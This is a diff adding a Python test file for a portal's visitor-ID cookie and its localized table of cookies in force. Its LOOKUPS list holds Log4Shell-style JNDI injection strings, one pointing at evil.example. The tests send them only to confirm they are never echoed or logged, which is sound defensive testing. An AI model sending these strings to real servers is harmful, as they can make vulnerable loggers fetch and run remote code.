@@ -1,0 +1,164 @@
+"""The visitor's id over the wire, and the first page's table of the cookies in force."""
+
+import re
+import unittest
+from html.parser import HTMLParser
+
+from browser import Browser
+from server import Portal
+from wire import ask, get
+
+ID = re.compile(r"[A-Za-z0-9_-]{22}")
+DAY = 86_400
+# What made a well-known logging library fetch code, when a server logged the visitor's cookie as it came.
+LOOKUPS = [b"${jndi:ldap://x}", b"${jndi:ldap://evil.example/a}", b"${${lower:j}ndi:dns://x}", b"10000${jndi:rmi://x}"]
+
+
+class Table(HTMLParser):
+    """The rows of the table of the cookies in force, and all attributes and tags that a page of this policy cannot have."""
+
+    def __init__(self, page):
+        super().__init__()
+        self.rows, self.inside, self.foreign, self.text = [], False, [], ""
+        self.feed(page)
+
+    def handle_starttag(self, tag, attributes):
+        self.foreign += [tag] if tag in ("script", "style", "img", "iframe") else []
+        self.foreign += [name for name, _ in attributes if name == "style" or name.startswith("on")]
+        self.inside |= tag == "tbody"
+        if self.inside and tag == "tr":
+            self.rows.append([])
+        if tag in ("td", "th"):
+            self.text = ""
+
+    def handle_endtag(self, tag):
+        if self.inside and tag in ("td", "th"):
+            self.rows[-1].append(self.text.replace("\xa0", " ").strip())
+        self.inside &= tag != "tbody"
+
+    def handle_data(self, data):
+        self.text += data
+
+
+class Visitor(unittest.TestCase):
+    @classmethod
+    def setUpClass(cls):
+        cls.portal = Portal()
+        cls.addClassCleanup(cls.portal.stop)
+
+    def test_to_ask_issues_an_id_once_and_it_stays(self):
+        browser = Browser(self.portal.address)
+        self.assertIsNone(browser.get("/whoami").json["visitor"])
+        first = browser.get("/visit")
+        self.assertEqual((first.status, first.one("cache-control")), (200, "no-store"))
+        visitor = first.json["visitor"]
+        self.assertRegex(visitor, ID)
+        (line,) = first.set_cookies
+        self.assertTrue(line.startswith(f"OFBiz.Visitor={visitor}."), line)
+        for part in ["Max-Age=31536000", "Path=/", "HttpOnly", "Secure", "SameSite=Lax"]:
+            self.assertIn(part, line)
+        for path in ["/visit", "/whoami"]:
+            again = browser.get(path)
+            self.assertEqual((again.json["visitor"], again.set_cookies), (visitor, []), path)
+            self.assertEqual(again.one("cache-control"), "no-store", path)
+
+    def test_a_decimal_id_of_old_is_replaced_when_somebody_asks_and_not_before(self):
+        for path in ["/", "/whoami", "/cart"]:
+            self.assertEqual(get(self.portal.address, path, b"OFBiz.Visitor=63601").set_cookies, [], path)
+        answer = get(self.portal.address, "/visit", b"OFBiz.Visitor=63601")
+        self.assertRegex(answer.json["visitor"], ID)
+        self.assertEqual(len(answer.set_cookies), 1)
+        echo = get(self.portal.address, "/lab/echo", b"OFBiz.Visitor=63601").json
+        self.assertEqual(echo, {"cookies": [], "refusals": [{"name": "OFBiz.Visitor", "reason": "unsigned"}]})
+
+
+class Output(unittest.TestCase):
+    def test_nothing_of_the_cookie_is_printed(self):
+        for action in ["strip", "report", "reject"]:
+            portal = Portal("--action", action)
+            self.addCleanup(portal.stop)
+            issued = []
+            for lookup in LOOKUPS:
+                for path in ["/", "/visit", "/whoami", "/lab/echo", "/lab/report", "/nowhere"]:
+                    answer = get(portal.address, path, b"OFBiz.Visitor=" + lookup)
+                    self.assertNotIn(b"jndi", answer.body, path)
+                    issued += [answer.json["visitor"]] if path == "/visit" and answer.status == 200 else []
+            self.assertTrue(issued)
+            process = portal.server.process
+            process.terminate()
+            printed = process.stdout.read() + portal.logged()
+            for text in [b"jndi", b"${", *[visitor.encode() for visitor in issued]]:
+                self.assertNotIn(text, printed)
+
+
+class InForce(unittest.TestCase):
+    @classmethod
+    def setUpClass(cls):
+        cls.portal = Portal()
+        cls.addClassCleanup(cls.portal.stop)
+
+    def wait(self, seconds):
+        self.assertEqual(ask(self.portal.address, "POST", "/lab/clock", body=b"%d" % seconds).status, 200)
+
+    def page(self, browser):
+        answer = browser.get("/")
+        self.assertIn("default-src 'none'; style-src 'self'", answer.one("content-security-policy"))
+        table = Table(answer.body.decode())
+        self.assertEqual(table.foreign, [])
+        return {row[0]: row[1:] for row in table.rows}
+
+    def test_who_has_no_cookie_has_none_in_force(self):
+        browser = Browser(self.portal.address)
+        self.assertEqual(self.page(browser), {})
+        self.assertIn("Just looking at this portal sets no cookie.", browser.get("/").body.decode())
+
+    def test_each_cookie_has_its_row_its_remaining_time_and_its_protection(self):
+        browser = Browser(self.portal.address, XRMINT="n1", strange="1").sign_in("anna")
+        browser.post("/cart", {"item": "headset"})
+        browser.post("/draft", {"text": "hello"})
+        browser.post("/theme", {"theme": "dark"})
+        browser.post("/language", {"lng": "en"})
+        browser.get("/visit")
+        self.wait(3660)
+        english = self.page(browser)
+        closed, hours = "Until the browser is closed", "browser session, at most 10 h"
+        guarded, signed = "Guarded: a change is noticed", "Signed: carries its own signature"
+        opened = "Open: only its form is checked"
+        self.assertEqual(
+            {name: [kind, *rest] for name, (kind, _, *rest) in english.items()},
+            {
+                "JSESSIONID": ["Session ID", closed, hours, guarded],
+                "OFBiz.Visitor": ["Visitor ID", "1 year", "11 months", signed],
+                "i18next": ["Language", "1 month", "only the browser knows", opened],
+                "XRMINT": ["Stickiness", closed, "browser session", opened],
+                "TS017a625a": ["ASM", closed, hours, "Signed: names the transaction"],
+                "cart": ["Cart", closed, hours, guarded],
+                "theme": ["Appearance", "1 year", "11 months", signed],
+                "draft": ["Draft", closed, hours, "Sealed: encrypted"],
+            },
+        )
+        self.assertIn("Row: XRM*", english["XRMINT"][1])
+        self.assertIn("<code>strange</code>", browser.get("/").body.decode())
+        browser.post("/language", {"lng": "de"})
+        german = self.page(browser)
+        self.assertEqual(german.keys(), english.keys())
+        self.assertEqual(
+            german["cart"],
+            [
+                "Warenkorb",
+                "Merkt sich, was der Besucher in den Warenkorb gelegt hat.",
+                "Bis der Browser geschlossen wird",
+                "Browsersitzung, höchstens 10 Std.",
+                "Bewacht: Änderungen fallen auf",
+            ],
+        )
+        self.assertEqual(german["theme"][2:4], ["1 Jahr", "11 Monate"])
+        # Half a year later only what lasts for a year is left, and what only the browser can end.
+        self.wait(183 * DAY)
+        later = self.page(browser)
+        self.assertEqual(sorted(later), ["OFBiz.Visitor", "XRMINT", "i18next", "theme"])
+        self.assertEqual(later["theme"][3], "5 Monate")
+
+
+if __name__ == "__main__":
+    unittest.main()
